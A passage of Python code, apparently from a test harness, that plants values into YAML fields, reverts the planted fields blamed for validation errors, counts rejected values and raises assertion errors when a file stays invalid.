            raise AssertionError(f"{yaml_file}: the planted file is not readable YAML any more")
        reverted = False
        for path in list(planted):
            pos = doc.positions.get(path)
            if not (pos and pos[0] in bad_lines):
                continue
            if path in accepted:
                value, kept = accepted[path]
                lost = holds[path][len(kept) :]
                planted[path], holds[path] = value, list(kept)
                full.add(path)
                _set(data, path, value)
            else:
                orig = original
                for k in path:
                    orig = orig[k]
                lost = holds.pop(path)
                del planted[path]
                _set(data, path, orig)
            for p in lost:
                tries[p] = tries.get(p, 0) + 1
                if rejected is not None:
                    rejected.setdefault(p, []).append((path, pos[0]))
            reverted = True
        if not reverted:
            raise AssertionError(f"{yaml_file}: problems on lines {sorted(bad_lines)} that no planted field explains")
    raise AssertionError(f"{yaml_file}: still invalid after {rounds} rounds")
